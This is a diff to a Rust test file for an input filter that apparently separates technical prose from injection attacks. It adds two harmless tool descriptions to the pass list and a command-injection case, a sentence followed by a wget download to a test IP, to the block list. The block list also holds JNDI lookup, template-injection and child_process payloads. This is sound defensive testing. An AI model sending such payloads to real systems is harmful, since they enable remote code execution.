@@ -92,6 +92,8 @@ fn technical_prose_passes() {
         "Gets /etc/os-release fields (ID, VERSION_ID) as a dict",
         "python 3.12 release notes",
         "exec (",
+        "Tail -f for cloud logs; follow multiple streams at once",
+        "Grep -r replacement written in Rust",
         "Supports ${VAR} and ${VAR:-default} expansion in config files",
         "Serialize PHP objects (O:8:\"stdClass\") to JSON",
         "LDAP helper: (objectClass=person)(|(ou=sales)(ou=support)) as one filter list",
@@ -130,6 +132,8 @@ fn attacks_composed_from_the_grammar_are_blocked() {
         "${jndi:rmi://203.0.113.9:1099/Exploit}",
         "${${env:NOTHING:-j}ndi:ldap://x.example/a}",
         "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        // A sentence, then a command after a separator.
+        "Hello there friend; wget http://203.0.113.9/x -O /tmp/x",
         // Node.js code inside prose still counts when it calls with an argument.
         "nice library, require('child_process').execSync('id') works too",
     ] {
